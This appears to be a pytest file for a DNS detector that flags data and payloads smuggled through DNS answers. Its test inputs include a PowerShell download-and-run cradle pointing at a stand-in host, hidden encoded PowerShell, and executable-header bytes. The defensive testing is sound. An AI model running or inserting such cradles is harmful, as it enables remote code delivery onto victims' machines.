import base64
import random
from collections.abc import Callable, Iterable

import pytest

from dnsguard.detect import tunnel, tunnel_answer
from dnsguard.detect.context import Context
from dnsguard.detect.memory import Memory
from dnsguard.detect.response import data_infiltration as det
from dnsguard.intel.snapshot import EMPTY
from dnsguard.model import Finding, Severity
from dnsguard.state.shares import Sums
from dnsguard.state.tunnels import Tunnels
from tests import judged, senders
from tests.eval.tunnels import exchange

DICE = random.Random(3)
START = senders.START


class Watched:
    """One worker's detectors over questions and answers."""

    def __init__(self, **config: object) -> None:
        self.context = Context(det.Config(**config), EMPTY, Memory())  # type: ignore[arg-type]

    def answer(self, name: str, *lines: str, time: float = START, client: str = "192.0.2.7") -> Finding | None:
        records = [f"{name}. 60 IN {line}" for line in lines]
        subject = judged.response(name, *records, time=time, client=client)
        tunnel.count(subject.query, self.context)
        cued = tunnel_answer.NearAnswer(self.context).wakes(subject)
        finding = det.inspect(subject, self.context)
        assert cued or finding is None
        return finding

    def first(self, answers: Iterable[senders.Pulled]) -> tuple[int, int] | None:
        """Answers and bytes that came in before the first that is found."""
        came = 0
        for i, (name, time, line, size) in enumerate(answers):
            if self.answer(name, line, time=time) is not None:
                return i, came
            came += size
        return None


@pytest.mark.parametrize("kind", ["TXT", "CNAME", "MX", "SRV"])
def test_a_fast_pull_is_cut_within_a_kilobyte(kind: str) -> None:
    found = Watched().first(senders.pull(kind, 1000.0, seconds=60))
    assert found is not None
    assert found[0] < 10
    assert found[1] <= 512


@pytest.mark.parametrize("kind", ["TXT", "CNAME"])
def test_a_pull_through_several_workers_is_added_up(kind: str) -> None:
    def came(told: bool) -> int:
        """Bytes until one of four tells of it; `told` what the others saw, or alone."""
        workers, sums, total, asked = [Watched() for _ in range(4)], Sums(), 0, START
        memories = [each.context.memory for each in workers]
        for memory in memories:
            memory.of(Tunnels).use(memories[0].of(Tunnels).key)
        for number, (name, time, line, size) in enumerate(senders.pull(kind, 1.0, seconds=7200)):
            if told and time > asked + 1.0:
                asked = time
                exchange(sums, memories, time)
            if workers[number % 4].answer(name, line, time=time) is not None:
                return total
            total += size
        raise AssertionError("not found")

    assert came(told=True) < came(told=False) / 2


@pytest.mark.parametrize(("kind", "answers"), [("A", 40), ("AAAA", 8)])
@pytest.mark.parametrize("rate", [0.02, 1000.0])
def test_a_pull_over_addresses_is_found_whatever_its_rate(kind: str, answers: int, rate: float) -> None:
    found = Watched().first(senders.pull(kind, rate, seconds=86400))
    assert found is not None
    assert found[0] <= answers


def test_text_written_as_addresses_is_found() -> None:
    data = b"powershell -nop -w hidden IEX(New-Object Net.WebClient)"
    lines = [("A " + ".".join(map(str, data[i : i + 4])), 4) for i in range(0, 52, 4)]
    found = Watched().first((f"part-{i}.s.example", START + i, line, size) for i, (line, size) in enumerate(lines))
    assert found is not None
    assert found[0] <= 10


def test_one_name_whose_addresses_are_data_is_found() -> None:
    watched, data = Watched(), random.Random(4)
    found = [watched.answer("www.s.example", "A " + ".".join(map(str, data.randbytes(4)))) for _ in range(120)]
    assert any(found)
    finding = next(each for each in found if each is not None)
    assert finding.evidence["rule"] == "addresses"


@pytest.mark.parametrize(
    "make",
    [
        lambda dice, _: f"10.{dice.randrange(9)}.{dice.randrange(256)}.{dice.randrange(256)}",
        lambda dice, _: f"127.0.{dice.randrange(256)}.{dice.randrange(256)}",
        lambda dice, i: dice.choice(["0.0.0.0", "127.0.0.1", f"203.0.113.{i}"]),
        # one network that a firm has for itself though it is reserved
        lambda dice, i: f"240.0.{i}.{dice.randrange(256)}",
        # servers in several networks, all octets printable in some
        lambda dice, i: f"{dice.choice(['45.77.101', '104.21.33', '198.51.100', '203.0.113', '13.5.7'])}.{40 + i % 80}",
    ],
)
def test_honest_addresses_of_one_zone_are_silent(make: Callable[[random.Random, int], str]) -> None:
    watched, dice = Watched(), random.Random(5)
    for i in range(120):
        assert watched.answer(f"host-{i}.shop.example", f"A {make(dice, i)}", time=START + 60 * i) is None


@pytest.mark.parametrize(("kind", "size"), [("A", 4), ("AAAA", 16), ("TXT", 60), ("CNAME", 30)])
@pytest.mark.parametrize(("rate", "within"), [(1.0, 600.0), (0.05, 86400.0)])
def test_a_slow_pull_is_found(kind: str, size: int, rate: float, within: float) -> None:
    found = Watched().first(senders.pull(kind, rate, size=size))
    assert found is not None
    assert found[1] / rate <= within


@pytest.mark.parametrize(
    "text",
    [
        "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA",
        "1:H4sIAAAAAAAAA+3BMQEAAADCoPVPbQ0PoAAA",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "#!/bin/sh",
        "4d5a90000300000004000000ffff0000",
    ],
)
def test_programs_and_scripts_are_found_at_once(text: str) -> None:
    finding = Watched().answer("stage.s.example", f'TXT "{text}"')
    assert finding is not None
    assert finding.severity is Severity.HIGH
    assert finding.evidence["found"]


HONEST = (
    "v=spf1 include:_spf.google.com include:spf.protection.outlook.com ip4:203.0.113.0/24 -all",
    "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDwIRP/UC3SBsEmGqZ9ZJW3/DkMoGeLnQg1fWn7/zYtIxN2SnFCjxOC",
    "v=DMARC1; p=reject; rua=mailto:dmarc@shop.example; pct=100",
    "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ",
    "MS=ms71454350",
    "facebook-domain-verification=22rm551cu4k0ab0bxsw536tlds4h95",
    "docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e",
    "apple-domain-verification=30afIBcvSuDV2PLX",
    "23028 | 216.90.108.0/24 | US | arin | 1998-09-25",
    "https://www.spamhaus.org/query/ip/127.0.0.2",
    "v=STSv1; id=20190425085700",
)


def test_honest_txt_records_are_silent() -> None:
    watched = Watched()
    for i, text in enumerate(HONEST * 4):
        assert watched.answer(f"_h{i}.shop.example", f'TXT "{text}"', time=START + i / 10) is None


def test_honest_addresses_and_aliases_are_silent() -> None:
    watched = Watched()
    for i in range(200):
        name = f"host-{i}.shop.example"
        assert watched.answer(name, f"A 203.0.113.{i}", time=START + i) is None
        target = f"CNAME d{i:03x}xyz.cloudfront.net."
        assert watched.answer(f"img-{i}.shop.example", target, time=START + i) is None


def test_hosts_of_a_provider_that_several_clients_ask_for_are_silent() -> None:
    """Each with an address of its own: 8 bytes apart from the others'."""
    watched = Watched()
    for i in range(150):
        host = ":".join(DICE.randbytes(2).hex() for _ in range(4))
        found = watched.answer(
            f"vps-{i}.provider.example", f"AAAA 2a01:4f8:c0c:1:{host}", time=START + 10 * i, client=f"192.0.2.{i % 9}"
        )
        assert found is None


def test_an_alias_that_repeats_its_question_tells_nothing_new() -> None:
    watched = Watched()
    for i in range(300):
        host = f"{senders.base32(DICE.randbytes(4))}{i}"
        alias = f"CNAME {host}.{('', 'customers.')[i % 2]}provider.example."
        assert watched.answer(f"{host}.shop.example", alias, time=START + i) is None
        assert watched.answer(f"w{i}.shop.example", f"CNAME w{i}.shop.example.edge.provider.example.") is None


def test_an_apex_full_of_unknown_tokens_is_no_tunnel() -> None:
    lines = [f'TXT "{base64.b64encode(DICE.randbytes(45)).decode()}"' for _ in range(10)]
    assert Watched().answer("shop.example", *lines) is None


def test_the_same_answer_again_carries_nothing() -> None:
    watched = Watched()
    for i in range(500):
        assert watched.answer("x.shop.example", 'TXT "' + "ab3/" * 30 + '"', time=START + i) is None


@pytest.mark.parametrize(
    "config", [{"burst": 63}, {"minutes": 1}, {"hour": 127}, {"day": 1}, {"names": 0}, {"addresses": 9}]
)
def test_config_errors_name_their_key(config: dict[str, int]) -> None:
    with pytest.raises(ValueError, match=next(iter(config))):
        det.Config(**config)  # type: ignore[arg-type]
